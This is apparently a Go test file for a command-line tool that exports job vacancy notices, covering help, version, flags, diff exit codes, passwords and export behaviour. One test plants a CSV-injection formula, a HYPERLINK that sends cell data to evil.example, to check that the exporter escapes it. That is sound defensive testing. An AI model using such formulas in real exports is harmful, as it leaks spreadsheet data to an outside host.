package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime/debug"
	"strings"
	"testing"
)

// The command-line conventions of issue 15 (clig.dev, GNU, diff(1)), one
// test each.

// TestVersion: `vacancy --version` and `vacancy version` print the
// version from the build information on stdout, exit 0.
func TestVersion(t *testing.T) {
	for _, args := range [][]string{{"--version"}, {"version"}} {
		code, stdout, stderr := runBinary(t, "", args...)
		if code != 0 || stderr != "" || !strings.HasPrefix(stdout, "vacancy ") || !strings.Contains(stdout, "go1.") {
			t.Errorf("%v: exit %d, stdout %q, stderr %q", args, code, stdout, stderr)
		}
	}
	_, a, _ := runBinary(t, "", "--version")
	_, b, _ := runBinary(t, "", "version")
	if a != b {
		t.Errorf("--version %q and version %q differ", a, b)
	}

	// From the build information, whatever it holds.
	bi := &debug.BuildInfo{GoVersion: "go1.26.8", Main: debug.Module{Path: "github.com/vacancy-tools/vacancy", Version: "v1.2.0"}}
	if got := versionText(bi); !strings.HasPrefix(got, "vacancy v1.2.0\ngo1.26.8 ") {
		t.Errorf("a release: %q", got)
	}
	bi.Main.Version = "v0.0.0-20261204045200-49e5d58b0c7e+dirty"
	bi.Settings = []debug.BuildSetting{{Key: "vcs", Value: "git"}, {Key: "vcs.revision", Value: "49e5d58b0c7e1e0f"},
		{Key: "vcs.time", Value: "2026-12-04T04:52:00Z"}, {Key: "vcs.modified", Value: "true"}}
	if got := versionText(bi); !strings.HasPrefix(got, "vacancy v0.0.0-20261204045200-49e5d58b0c7e+dirty\ncommit 49e5d58b0c7e1e0f 2026-12-04T04:52:00Z (modified)\ngo1.26.8 ") {
		t.Errorf("a clone: %q", got)
	}
	if got := versionText(nil); !strings.HasPrefix(got, "vacancy (devel)\ngo") {
		t.Errorf("no build information: %q", got)
	}

}

// TestVersionFromVCS: a binary built in a clone with its version
// control information says which commit it is.
func TestVersionFromVCS(t *testing.T) {
	rev, err := exec.Command("git", "rev-parse", "HEAD").Output()
	if err != nil {
		t.Skipf("no git repository to build from: %v", err)
	}
	bin := filepath.Join(t.TempDir(), "vacancy")
	if out, err := exec.Command("go", "build", "-buildvcs=true", "-o", bin, ".").CombinedOutput(); err != nil {
		t.Skipf("go build -buildvcs=true: %v\n%s", err, out)
	}
	if info, err := exec.Command("go", "version", "-m", bin).Output(); err != nil || !strings.Contains(string(info), "vcs.revision=") {
		// The go command reads the commit of a clone, not of a git
		// worktree (whose .git is a file).
		t.Skip("the go command recorded no commit in the binary (built in a git worktree?)")
	}
	out, err := exec.Command(bin, "--version").Output()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(out), "\ncommit "+strings.TrimSpace(string(rev))) {
		t.Errorf("--version of a binary built with VCS information lacks the commit %s:\n%s", rev, out)
	}
}

// TestHelp: --help, -h and `help` print on stdout, nothing on stderr,
// exit 0; every option is shown as --flag (with its one-letter form).
func TestHelp(t *testing.T) {
	for _, args := range [][]string{
		{"help"}, {"--help"}, {"-h"},
		{"help", "parse"}, {"parse", "--help"}, {"parse", "-h"}, {"text", "--help"},
		{"diff", "--help"}, {"export", "--help"}, {"help", "export"}, {"version", "--help"},
	} {
		code, stdout, stderr := runBinary(t, "", args...)
		if code != 0 || stderr != "" || !strings.Contains(stdout, "Usage:") {
			t.Errorf("%v: exit %d, stderr %q, stdout:\n%s", args, code, stderr, stdout)
		}
		for _, line := range strings.Split(stdout, "\n") {
			trimmed := strings.TrimSpace(line)
			if !strings.HasPrefix(trimmed, "-") {
				continue
			}
			if !regexp.MustCompile(`^(-[a-z0-9], )?--[a-z][a-z-]*( [A-Z]+)?\s`).MatchString(trimmed + " ") {
				t.Errorf("%v: option not shown as --flag: %q", args, line)
			}
			if strings.Contains(line, "[=true|false]") {
				t.Errorf("%v: %q", args, line)
			}
		}
	}
	_, stdout, _ := runBinary(t, "", "export", "--help")
	for _, want := range []string{"  -o, --output FILE", "  -j, --jobs N", "  -0, --null", "      --from FORMAT", "      --password-file FILE"} {
		if !strings.Contains(stdout, want) {
			t.Errorf("export --help lacks %q:\n%s", want, stdout)
		}
	}
	// No command: the usage, on stderr, as an error.
	if code, stdout, stderr := runBinary(t, ""); code != 2 || stdout != "" || !strings.Contains(stderr, "Usage:") {
		t.Errorf("no command: exit %d, stdout %q, stderr %q", code, stdout, stderr)
	}
}

// TestFromFlag: --from gives the input format on every command that
// reads notices; parse and text still take --format, warning.
func TestFromFlag(t *testing.T) {
	md := filepath.Join(corpus, "250715-pdd.md")
	data, err := os.ReadFile(md)
	if err != nil {
		t.Fatal(err)
	}
	_, want, _ := runInProcess("", "parse", "--compact", md)
	want = strings.Replace(want, `"file":"`+md+`"`, `"file":"<stdin>"`, 1)
	code, got, stderr := runInProcess(string(data), "parse", "--compact", "--from", "markdown", "-")
	if code != 0 || got != want || stderr != "" {
		t.Errorf("parse --from markdown -: exit %d, stderr %q, same output %v", code, stderr, got == want)
	}
	// Read as text, the same bytes are another stream.
	_, asMarkdown, _ := runInProcess("", "text", "--from", "markdown", md)
	_, asText, _ := runInProcess("", "text", "--from", "text", md)
	if asMarkdown == asText || !strings.Contains(asText, "**") {
		t.Error("text --from text reads the Markdown as Markdown")
	}
	if code, _, stderr := runInProcess("", "diff", "--from", "markdown", md, md); code != 0 {
		t.Errorf("diff --from: exit %d: %s", code, stderr)
	}
	if code, out, stderr := runInProcess("", "export", "--from", "markdown", md); code != 0 || strings.Count(out, "\n") != 1 {
		t.Errorf("export --from: exit %d: %s", code, stderr)
	}
	// The old name, on parse and text: it works, and says it is old.
	code, got, stderr = runInProcess(string(data), "parse", "--compact", "--format", "markdown", "-")
	if code != 0 || got != want || !strings.Contains(stderr, "vacancy: warning: --format of parse is now --from") {
		t.Errorf("parse --format: exit %d, stderr %q", code, stderr)
	}
	if code, _, stderr := runInProcess("", "parse", "--from", "text", "--format", "markdown", md); code != 2 || !strings.Contains(stderr, "disagree") {
		t.Errorf("--from and --format disagreeing: exit %d, %q", code, stderr)
	}
	// On export and diff, --format is the output format only.
	if code, _, stderr := runInProcess("", "export", "--format", "markdown", md); code != 2 || !strings.Contains(stderr, `unknown --format "markdown"`) {
		t.Errorf("export --format markdown: exit %d, %q", code, stderr)
	}
}

// TestDiffExitStatus: as diff(1), 1 whenever the output shows a
// difference: a json-patch that is not empty exits 1 even when the
// contract fields agree.
func TestDiffExitStatus(t *testing.T) {
	md, html := filepath.Join(corpus, "250715-pdd.md"), filepath.Join(corpus, "250715-pdd.html")
	code, out, _ := runInProcess("", "diff", md, html)
	if code != 0 || out != "" {
		t.Fatalf("text: exit %d, %q: the pair no longer has the same contract fields", code, out)
	}
	code, out, stderr := runInProcess("", "diff", "--format", "json-patch", md, html)
	var ops []map[string]any
	if err := json.Unmarshal([]byte(out), &ops); err != nil || len(ops) == 0 {
		t.Fatalf("json-patch: %v, %d operations; stderr %s", err, len(ops), stderr)
	}
	if code != 1 {
		t.Errorf("json-patch of %d operations: exit %d, want 1", len(ops), code)
	}
	if code, out, _ := runInProcess("", "diff", "--format", "json-patch", md, md); code != 0 || strings.TrimSpace(out) != "[]" {
		t.Errorf("an empty patch: exit %d, %q", code, out)
	}
	if code, _, _ := runInProcess("", "diff", "--format", "json", md, html); code != 0 {
		t.Errorf("json: exit %d", code)
	}
}

// fakeTerminal makes every writer a terminal for the test.
func fakeTerminal(t *testing.T) {
	saved := isTerminal
	isTerminal = func(io.Writer) bool { return true }
	t.Cleanup(func() { isTerminal = saved })
}

// TestNoEscapes: no escape sequence reaches a pipe or a file, nor a
// terminal that says TERM=dumb; NO_COLOR turns colours off.
func TestNoEscapes(t *testing.T) {
	v1, v2 := filepath.Join(corpus, "revisions", "250715-pdd.v1.md"), filepath.Join(corpus, "revisions", "250715-pdd.v2.md")
	notices := filepath.Join(corpus, "revisions")
	escapes := func(s string) bool { return strings.Contains(s, "\x1b") }

	// Not a terminal (the in-process writers are buffers).
	_, out, _ := runInProcess("", "diff", v1, v2)
	if escapes(out) {
		t.Error("diff to a pipe has escapes")
	}
	if _, _, stderr := runInProcess("", "export", notices); escapes(stderr) {
		t.Error("export to a pipe draws a progress line")
	}

	fakeTerminal(t)
	t.Setenv("NO_COLOR", "")
	t.Setenv("TERM", "xterm-256color")
	_, out, _ = runInProcess("", "diff", v1, v2)
	if !escapes(out) {
		t.Error("diff to a colour terminal has no colour: the test proves nothing")
	}
	if _, _, stderr := runInProcess("", "export", notices); !escapes(stderr) {
		t.Error("export to a terminal draws no progress line: the test proves nothing")
	}
	t.Setenv("TERM", "dumb")
	if _, out, _ := runInProcess("", "diff", v1, v2); escapes(out) {
		t.Errorf("diff with TERM=dumb has escapes:\n%q", out)
	}
	if _, _, stderr := runInProcess("", "export", notices); escapes(stderr) {
		t.Errorf("export with TERM=dumb has escapes:\n%q", stderr)
	}
	t.Setenv("TERM", "xterm-256color")
	t.Setenv("NO_COLOR", "1")
	if _, out, _ := runInProcess("", "diff", v1, v2); escapes(out) {
		t.Error("diff with NO_COLOR has escapes")
	}
	// --color always is asked for: it wins.
	t.Setenv("TERM", "dumb")
	if _, out, _ := runInProcess("", "diff", "--color", "always", v1, v2); !escapes(out) {
		t.Error("--color always has no colour")
	}
}

// TestPasswords: the password of an encrypted PDF from --password,
// --password-file or $VACANCY_PASSWORD.
func TestPasswords(t *testing.T) {
	pdf := filepath.Join("..", "..", "parser", "testdata", "bad", "encrypted-aes256.pdf") // user password "user"
	if _, err := os.Stat(pdf); err != nil {
		t.Skip(err)
	}
	dir := t.TempDir()
	good, bad, crlf := filepath.Join(dir, "good"), filepath.Join(dir, "bad"), filepath.Join(dir, "crlf")
	os.WriteFile(good, []byte("user\n"), 0o600)
	os.WriteFile(bad, []byte("nope"), 0o600)
	os.WriteFile(crlf, []byte("user\r\nsecond line\r\n"), 0o600)
	t.Setenv(passwordEnv, "")
	tests := []struct {
		name string
		env  string
		args []string
		code int
		want string
	}{
		{"none", "", nil, 1, "encrypted PDF needs a password"},
		{"--password", "", []string{"--password", "user"}, 0, ""},
		{"--password-file", "", []string{"--password-file", good}, 0, ""},
		{"--password-file, CRLF", "", []string{"--password-file", crlf}, 0, ""},
		{"--password-file, wrong", "", []string{"--password-file", bad}, 1, "wrong password"},
		{"environment", "user", nil, 0, ""},
		{"environment, wrong", "nope", nil, 1, "wrong password"},
		{"a flag wins over the environment", "nope", []string{"--password-file", good}, 0, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Setenv(passwordEnv, tt.env)
			code, out, stderr := runInProcess("", append(append([]string{"parse", "--compact"}, tt.args...), pdf)...)
			if code != tt.code || !strings.Contains(stderr, tt.want) {
				t.Errorf("exit %d, stderr %q; want %d and %q", code, stderr, tt.code, tt.want)
			}
			if tt.code == 0 && !strings.Contains(out, `"reference"`) {
				t.Errorf("no vacancy: %q", out)
			}
		})
	}
}

// TestExportSummary: the summary line is grammatical.
func TestExportSummary(t *testing.T) {
	md := filepath.Join(corpus, "250715-pdd.md")
	faq := filepath.Join(corpus, "faq-internship.fr.txt")
	for _, tt := range []struct {
		paths []string
		want  string
	}{
		{[]string{md}, "exported 1 vacancy from 1 file; 0 failed\n"},
		{[]string{md, faq}, "exported 1 vacancy from 2 files; 1 failed\n"},
		{[]string{faq}, "exported 0 vacancies from 1 file; 1 failed\n"},
	} {
		_, _, stderr := runInProcess("", append([]string{"export"}, tt.paths...)...)
		if !strings.HasSuffix(stderr, tt.want) {
			t.Errorf("%v: %q, want %q", tt.paths, stderr, tt.want)
		}
	}
}

// TestOutputErrorsNameOutput: an error writing -o OUT names OUT, never
// the temporary file the output is written to first.
func TestOutputErrorsNameOutput(t *testing.T) {
	md := filepath.Join(corpus, "250715-pdd.md")
	out := filepath.Join(t.TempDir(), "no-such-folder", "out.jsonl")
	code, _, stderr := runInProcess("", "export", "-o", out, md)
	if code != 2 || stderr != "vacancy: "+out+": cannot write there: no such file or directory\n" {
		t.Errorf("exit %d, stderr %q", code, stderr)
	}

	// A write that fails (a full disk): the temporary file is opened
	// read-only, so that every write fails.
	out = filepath.Join(t.TempDir(), "out.jsonl")
	os.WriteFile(out, []byte("previous\n"), 0o644)
	saved := createTemp
	createTemp = func(dir, pattern string) (*os.File, error) {
		f, err := os.CreateTemp(dir, pattern)
		if err != nil {
			return nil, err
		}
		f.Close()
		return os.Open(f.Name())
	}
	defer func() { createTemp = saved }()
	code, _, stderr = runInProcess("", "export", "-o", out, md)
	if code != 2 || !strings.HasPrefix(stderr, "vacancy: "+out+": cannot write: ") || strings.Contains(stderr, ".tmp") ||
		!strings.Contains(stderr, out+" left unchanged") {
		t.Errorf("exit %d, stderr %q", code, stderr)
	}
	if data, _ := os.ReadFile(out); string(data) != "previous\n" {
		t.Errorf("OUT changed: %q", data)
	}
	if left, _ := filepath.Glob(filepath.Join(filepath.Dir(out), ".*.tmp")); len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
}

// TestExportStdinList: `vacancy export -` reads the paths to export from
// standard input, one a line or NUL-separated with -0 (find -print0),
// as xargs and tar -T do. It used to crash on a nil pointer.
func TestExportStdinList(t *testing.T) {
	md := filepath.Join(corpus, "250715-pdd.md")
	txt := filepath.Join(corpus, "250709-jis.txt")
	revisions := filepath.Join(corpus, "revisions")
	_, want, _ := runInProcess("", "export", md, txt, revisions)
	nWant := strings.Count(want, "\n")
	for _, tt := range []struct {
		name, stdin string
		args        []string
	}{
		{"lines", md + "\n" + txt + "\n" + revisions + "\n", []string{"export", "-"}},
		{"CRLF, blank lines, no final newline", "\r\n" + md + "\r\n\n" + txt + "\r\n" + revisions, []string{"export", "-"}},
		{"NUL", md + "\x00" + txt + "\x00" + revisions + "\x00", []string{"export", "-0", "-"}},
		{"--null", md + "\x00" + txt + "\x00" + revisions, []string{"export", "--null", "-"}},
		{"mixed with arguments", txt + "\n", []string{"export", md, "-", revisions}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			for _, mode := range []string{"inprocess", "exec"} {
				var code int
				var out, stderr string
				if mode == "exec" {
					code, out, stderr = runBinary(t, tt.stdin, tt.args...)
				} else {
					code, out, stderr = runInProcess(tt.stdin, tt.args...)
				}
				if code != 0 || out != want {
					t.Errorf("%s: exit %d, %d lines (want %d)\n%s", mode, code, strings.Count(out, "\n"), nWant, stderr)
				}
			}
		})
	}
	// An empty list: nothing to export.
	if code, out, stderr := runInProcess("", "export", "-"); code != 1 || out != "" || stderr != "vacancy: no input to export\n" {
		t.Errorf("empty list: exit %d, %q, %q", code, out, stderr)
	}
	// "-" in the list is a file named "-", not standard input again.
	if code, _, stderr := runInProcess("-\n", "export", "-"); code != 1 || !strings.Contains(stderr, "vacancy: ./-: no such file or directory") {
		t.Errorf("a listed -: exit %d, %q", code, stderr)
	}
}

// TestExportSkippedFiles: a folder of files export does not read
// reports each one with its reason, and with no input left exits 1
// without writing anything.
func TestExportSkippedFiles(t *testing.T) {
	dir := t.TempDir()
	files := map[string]string{
		"notice.docx":  "PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml\x00",
		"old.doc":      "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00",
		"scan.png":     "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
		"notice.rtf":   `{\rtf1\ansi Vacancy notice}`,
		"export.json":  `{"reference": "1"}`,
		"empty":        "",
		"blob":         "\x00\x01\x02\x03",
		".hidden.docx": "PK\x03\x04",
	}
	for name, data := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	out := filepath.Join(t.TempDir(), "out.csv")
	code, stdout, stderr := runInProcess("", "export", "--format", "csv", "-o", out, dir)
	if code != 1 || stdout != "" {
		t.Errorf("exit %d, stdout %q", code, stdout)
	}
	for name, reason := range map[string]string{
		"notice.docx": "Word documents are not read; save as PDF",
		"old.doc":     "Word documents are not read; save as PDF",
		"scan.png":    "images are not read: vacancy does no OCR",
		"notice.rtf":  "RTF documents are not read; save as PDF",
		"export.json": "JSON, an output format of vacancy, not a notice",
		"empty":       "empty file",
		"blob":        "binary file, not a notice",
	} {
		if want := "vacancy: " + filepath.Join(dir, name) + ": skipped: " + reason; !strings.Contains(stderr, want) {
			t.Errorf("stderr lacks %q", want)
		}
	}
	if !strings.HasSuffix(stderr, "vacancy: no input to export (7 files skipped)\n") || strings.Contains(stderr, ".hidden") {
		t.Errorf("stderr:\n%s", stderr)
	}
	if _, err := os.Stat(out); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("-o written with nothing to export: %v", err)
	}
	// With a notice among them: exported, the others skipped; exit 0.
	notice, _ := os.ReadFile(filepath.Join(corpus, "250715-pdd.md"))
	os.WriteFile(filepath.Join(dir, "notice.md"), notice, 0o644)
	code, _, stderr = runInProcess("", "export", "-o", out, dir)
	if code != 0 || !strings.HasSuffix(stderr, "exported 1 vacancy from 1 file; 0 failed; 7 skipped\n") {
		t.Errorf("exit %d:\n%s", code, stderr)
	}
	// A Word document named on the command line is tried, and fails
	// with the same reason.
	code, _, stderr = runInProcess("", "export", filepath.Join(dir, "notice.docx"))
	if code != 1 || !strings.Contains(stderr, "notice.docx: Word documents are not read; save as PDF\n") {
		t.Errorf("named: exit %d:\n%s", code, stderr)
	}
}

// TestExportSkipsItsOutput: an export into a folder it reads never
// reads its own output, whatever the format, the second time as the
// first.
func TestExportSkipsItsOutput(t *testing.T) {
	for _, tt := range []struct{ format, name string }{
		{"jsonld", "x.jsonld"}, {"jsonl", "x.jsonl"}, {"csv", "x.csv"}, {"jsonld-lines", "x.json"},
		{"jsonl", "out.txt"}, // named as a notice, but holding an export
		{"csv", "out"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := noticeTree(t, 2)
			out := filepath.Join(dir, tt.name)
			args := []string{"export", "--format", tt.format, "-o", out, dir}
			if strings.HasPrefix(tt.format, "jsonld") {
				args = append(args, "--date-posted", "2025-05-01")
			}
			var outputs []string
			for run := range 3 {
				code, _, stderr := runInProcess("", args...)
				if code != 0 {
					t.Fatalf("run %d: exit %d\n%s", run+1, code, stderr)
				}
				if run > 0 && !strings.Contains(stderr, out+": skipped: the output of this export") {
					t.Errorf("run %d: the output not reported as skipped:\n%s", run+1, stderr)
				}
				if !strings.Contains(stderr, "exported 2 vacancies from 2 files") {
					t.Errorf("run %d:\n%s", run+1, stderr)
				}
				data, _ := os.ReadFile(out)
				outputs = append(outputs, string(data))
			}
			if outputs[0] != outputs[1] || outputs[1] != outputs[2] {
				t.Error("the output changed from run to run")
			}
		})
	}
	// A notice named as the output is still refused: it is an input.
	dir := noticeTree(t, 2)
	code, _, stderr := runInProcess("", "export", "-o", filepath.Join(dir, "notice0.md"), dir)
	if code != 2 || !strings.Contains(stderr, "is one of the inputs") {
		t.Errorf("exit %d: %s", code, stderr)
	}
}

// TestCSVSafety: --bom, and cells that a spreadsheet would run as a
// formula are escaped (OWASP, CSV injection).
func TestCSVSafety(t *testing.T) {
	data, err := os.ReadFile(filepath.Join(corpus, "250715-pdd.md"))
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	evil := strings.Replace(string(data), "NATO Internship - Public Diplomacy Division (PDD) (250715)",
		`=HYPERLINK("http://evil.example/?"&A1,"Apply") (250715)`, 1)
	if evil == string(data) {
		t.Fatal("the title line was not found")
	}
	os.WriteFile(filepath.Join(dir, "evil.md"), []byte(evil), 0o644)
	code, out, stderr := runInProcess("", "export", "--format", "csv", "--bom", dir)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if !strings.HasPrefix(out, "\ufeffreference,source_file,") {
		t.Errorf("--bom: %q", out[:min(len(out), 40)])
	}
	if !strings.Contains(out, `'=HYPERLINK(`) || strings.Contains(out, `,=HYPERLINK(`) || strings.Contains(out, `,"=HYPERLINK(`) {
		t.Errorf("the formula is not escaped:\n%s", out)
	}
	_, plain, _ := runInProcess("", "export", "--format", "csv", dir)
	if strings.HasPrefix(plain, "\ufeff") || !bytes.Equal([]byte(plain), []byte(strings.TrimPrefix(out, "\ufeff"))) {
		t.Error("without --bom: a BOM, or other differences")
	}
}
